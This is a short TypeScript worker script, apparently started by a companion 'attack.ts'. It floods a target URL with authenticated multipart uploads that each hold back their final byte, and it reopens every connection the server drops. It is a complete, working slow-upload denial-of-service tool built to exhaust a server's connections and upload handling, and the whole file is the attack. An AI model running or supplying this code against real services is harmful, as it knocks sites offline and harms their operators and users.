// Sends uploads but for their last byte, each anew once the server has had enough of waiting: attack.ts starts it with what to do.
import { request } from "node:http";

export type Held = { url: string; token: string; uploads: number; bytes: number };

const { url, token, uploads, bytes } = JSON.parse(process.argv[2] ?? "") as Held;
const head = '--x\r\ncontent-disposition: form-data; name="File"; filename="a.jpg"\r\n\r\n';
const content = Buffer.alloc(bytes);
const headers = {
  authorization: `Bearer ${token}`,
  "content-type": "multipart/form-data; boundary=x",
  "content-length": head.length + bytes + 1,
};

function hold(): void {
  const call = request(url, { method: "POST", headers, agent: false }, (answer) => answer.resume());
  call.once("error", () => {}).once("close", hold);
  call.write(head);
  call.write(content);
}

for (let nth = 0; nth < uploads; nth += 1) hold();
